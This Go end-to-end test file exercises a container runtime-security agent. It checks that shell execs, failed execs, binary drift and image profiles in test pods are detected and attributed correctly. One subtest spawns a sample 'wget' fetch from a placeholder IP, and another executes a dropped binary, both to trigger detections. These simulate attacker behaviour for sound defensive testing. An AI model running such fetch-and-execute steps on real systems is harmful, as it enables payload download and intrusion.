package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	loupev1 "github.com/loupe-dev/loupe/api/v1"
	"github.com/loupe-dev/loupe/internal/testenv"
)

// TestScenarios runs the demo's scenarios against the real stack and checks
// each yields the expected finding at the collector, attributed correctly.
func TestScenarios(t *testing.T) {
	env := testenv.StartContainerd(t)
	distroless, debian := env.Image(t, testenv.Distroless), env.Image(t, testenv.DebianLike)
	s := newStack(t, env)

	api := env.RunPod(t, testenv.PodConfig{Name: "api-7d9f", Namespace: "payments"})
	app := api.Start(t, testenv.ContainerConfig{Name: "app", Image: distroless})
	web := env.RunPod(t, testenv.PodConfig{Name: "web-1", Namespace: "frontend"})
	sh := web.Start(t, testenv.ContainerConfig{Name: "web", Image: debian})

	inPod := func(c *testenv.Container, want string) func(*loupev1.Finding) bool {
		return func(f *loupev1.Finding) bool {
			r := f.GetContainer()
			return r.GetId() == c.ID() && r.GetPod() == c.Pod().Name() && r.GetNamespace() == c.Pod().Namespace() &&
				r.GetName() == c.Name() && r.GetPodUid() == c.Pod().UID() && r.GetImage() != "" &&
				f.GetNode() == s.node && (want == "" || strings.Contains(f.GetProcess().GetFilename(), want))
		}
	}

	t.Run("inspection classifies the distroless image and finds the shell of the other", func(t *testing.T) {
		s.waitFinding(t, "IMAGE_PROFILE of the distroless pod", 60*time.Second, kinds(loupev1.Kind_KIND_IMAGE_PROFILE), inPod(app, ""))
		f := s.waitFinding(t, "SHELL_PRESENT in the debian-like pod", 60*time.Second, kinds(loupev1.Kind_KIND_SHELL_PRESENT), inPod(sh, ""))
		if !strings.HasPrefix(f.GetFile().GetPath(), "/bin/") && !strings.HasPrefix(f.GetFile().GetPath(), "/usr/bin/") {
			t.Errorf("SHELL_PRESENT path %q", f.GetFile().GetPath())
		}
		for _, f := range s.query(t, &loupev1.QueryRequest{Kinds: []loupev1.Kind{loupev1.Kind_KIND_SHELL_PRESENT}, ContainerId: app.ID()}) {
			t.Errorf("the distroless pod has no shell, yet: %s", f.GetSummary())
		}
	})

	t.Run("kubectl exec sh into distroless", func(t *testing.T) {
		if _, err := app.Exec(t, []string{"/bin/sh", "-c", "id"}, 10*time.Second); err == nil {
			t.Fatal("exec of /bin/sh succeeded in the distroless container")
		}
		f := s.waitFinding(t, "RUNTIME_EXEC_FAILED", 30*time.Second, kinds(loupev1.Kind_KIND_RUNTIME_EXEC_FAILED), inPod(app, "/bin/sh"))
		if f.GetSeverity() != loupev1.Severity_SEVERITY_HIGH || f.GetProcess().GetErrno() != 2 || !strings.Contains(f.GetSummary(), "no such file") {
			t.Errorf("RUNTIME_EXEC_FAILED: severity %v errno %d summary %q", f.GetSeverity(), f.GetProcess().GetErrno(), f.GetSummary())
		}
	})

	t.Run("the app process itself tries execve /bin/sh", func(t *testing.T) {
		app.RequestSpawn(t, "/bin/sh", "-c", "wget -qO- http://198.51.100.7/x")
		f := s.waitFinding(t, "EXEC_FAILED from the app", 30*time.Second, kinds(loupev1.Kind_KIND_EXEC_FAILED), inPod(app, "/bin/sh"))
		p := f.GetProcess()
		if p.GetErrno() != 2 || !slices.Contains(p.GetArgv(), "-c") || f.GetSeverity() < loupev1.Severity_SEVERITY_HIGH {
			t.Errorf("EXEC_FAILED: errno %d argv %q severity %v", p.GetErrno(), p.GetArgv(), f.GetSeverity())
		}
	})

	t.Run("a dropped binary is executed (drift)", func(t *testing.T) {
		root := fmt.Sprintf("/proc/%d/root", app.PID(t))
		bin, err := os.ReadFile(root + testenv.Distroless.AppPath())
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(root+"/tmp/dropped", bin, 0o755); err != nil {
			t.Fatal(err)
		}
		app.RequestSpawn(t, "/tmp/dropped", "exit")
		f := s.waitFinding(t, "DRIFT_EXEC", 30*time.Second, kinds(loupev1.Kind_KIND_DRIFT_EXEC), inPod(app, "/tmp/dropped"))
		if f.GetSeverity() < loupev1.Severity_SEVERITY_HIGH {
			t.Errorf("DRIFT_EXEC severity %v", f.GetSeverity())
		}
		// The rescan the drift triggers reports the new file.
		s.waitFinding(t, "DRIFT_FILE", 60*time.Second, kinds(loupev1.Kind_KIND_DRIFT_FILE), func(g *loupev1.Finding) bool {
			return g.GetContainer().GetId() == app.ID() && g.GetFile().GetPath() == "/tmp/dropped" && len(g.GetFile().GetSha256()) == 64
		})
	})

	t.Run("a shell in the debian-like pod", func(t *testing.T) {
		res, err := sh.Exec(t, []string{"/bin/sh", "-c", "id"}, 10*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		if res.ExitCode != 0 {
			t.Fatalf("sh -c id exited %d", res.ExitCode)
		}
		f := s.waitFinding(t, "SHELL_EXEC", 30*time.Second, kinds(loupev1.Kind_KIND_SHELL_EXEC), inPod(sh, "sh"))
		if !slices.Equal(f.GetProcess().GetArgv(), []string{"/bin/sh", "-c", "id"}) {
			t.Errorf("SHELL_EXEC argv %q", f.GetProcess().GetArgv())
		}
		r := s.waitFinding(t, "RUNTIME_EXEC", 30*time.Second, kinds(loupev1.Kind_KIND_RUNTIME_EXEC), inPod(sh, ""))
		if r.GetProcess().GetPid() == 0 || !slices.Equal(r.GetProcess().GetArgv(), []string{"/bin/sh", "-c", "id"}) {
			t.Errorf("RUNTIME_EXEC not joined with the tracer's argv: pid %d argv %q", r.GetProcess().GetPid(), r.GetProcess().GetArgv())
		}
	})

	t.Run("host execs are not reported", func(t *testing.T) {
		marker := "loupe-host-marker-" + fmt.Sprint(time.Now().UnixNano())
		if err := osexec("/bin/sh", "-c", "true "+marker); err != nil {
			t.Fatal(err)
		}
		time.Sleep(2 * time.Second)
		if got := s.query(t, &loupev1.QueryRequest{Grep: marker}); len(got) != 0 {
			t.Errorf("host exec reported: %v", got[0].GetSummary())
		}
	})

	t.Run("metrics", func(t *testing.T) {
		m := httpGet(t, "http://"+s.agentHTTP+"/metrics")
		for _, want := range []string{"loupe_agent_containers 2", "loupe_agent_collector_connected 1", "loupe_agent_ready 1",
			`loupe_agent_findings_total{kind="SHELL_EXEC"`, "loupe_agent_bpf_events_lost_total 0", `loupe_agent_exec_events_total{result="failed"}`,
			"loupe_agent_scan_duration_seconds_count", "loupe_agent_spool_bytes", "loupe_build_info"} {
			if !strings.Contains(m, want) {
				t.Errorf("agent metrics lack %q", want)
			}
		}
		promtool := testenv.RequireCommand(t, "promtool")
		cmd := exec.Command(promtool, "check", "metrics")
		cmd.Stdin = strings.NewReader(m)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("promtool check metrics on the agent's /metrics: %v\n%s", err, out)
		}
	})
}
